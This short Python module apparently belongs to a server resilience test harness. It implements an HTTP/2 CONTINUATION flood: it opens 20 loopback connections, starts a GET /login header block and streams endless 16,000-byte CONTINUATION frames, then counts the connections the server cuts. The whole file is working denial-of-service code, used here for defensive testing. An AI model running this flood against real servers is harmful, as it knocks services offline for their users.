from _crowd import crowd
from _http2 import CONTINUATION, HEADERS, connect, frame, header

WHAT = "20 HTTP/2 connections whose header never ends (CONTINUATION flood)"


def attack(box, stop):
    def one(number):
        s = connect(box, f"127.0.5.{number % 4 + 1}")
        try:
            s.sendall(frame(HEADERS, 0, 1, header("GET", "/login")))
            while not stop.is_set():
                s.sendall(frame(CONTINUATION, 0, 1, b"\0" * 16_000))
        finally:
            s.close()

    return "%d connections, %d of them cut" % crowd(20, stop, one)
